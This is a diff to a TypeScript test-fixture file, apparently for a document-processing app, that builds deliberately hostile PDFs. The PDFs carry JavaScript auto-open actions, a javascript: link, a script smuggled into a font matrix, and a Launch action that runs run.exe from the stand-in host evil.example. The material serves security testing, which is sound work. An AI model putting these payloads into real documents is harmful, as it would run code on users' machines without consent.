@@ -1,6 +1,6 @@
 import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate'
+import { pdfOf, streamOf } from '../../mock-platform/data/pdf-file'
 import { sampleBytes } from '../../mock-platform/data/samples'
-import { assembledPdf } from './bombs'
 import { sampleArchive } from './sample-files'
 
 /** Documents that would run, load or lead astray, each with 「正文」 in it. What runs calls `alert`. */
@@ -130,14 +130,13 @@ export function hostileSlides(): Buffer {
 
 /** Scripts at opening, in a link, a field and a font's matrix, which libraries have run; links to programs. */
 export function hostilePdf(): Buffer {
-  const content = 'BT /F1 24 Tf 20 150 Td (Body) Tj ET'
   const link = (action: string, y: number) =>
     `<< /Type /Annot /Subtype /Link /Rect [10 ${y} 190 ${y + 20}] /A << ${action} >> >>`
-  return assembledPdf([
+  return pdfOf([
     '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\); alert\\(1\\)) >> /AA << /WC << /S /JavaScript /JS (alert\\(1\\)) >> >> /AcroForm << /Fields [8 0 R] >> >>',
     '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
     '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /Annots [6 0 R 7 0 R 8 0 R 9 0 R] /AA << /O << /S /JavaScript /JS (alert\\(1\\)) >> >> >>',
-    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
+    streamOf('BT /F1 24 Tf 20 150 Td (Body) Tj ET'),
     '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix [1 0 0 1 0 (0\\); alert\\(1\\)//)] >>',
     link('/S /URI /URI (javascript:alert\\(1\\))', 10),
     link('/S /Launch /F (\\\\\\\\evil.example\\\\run.exe)', 40),
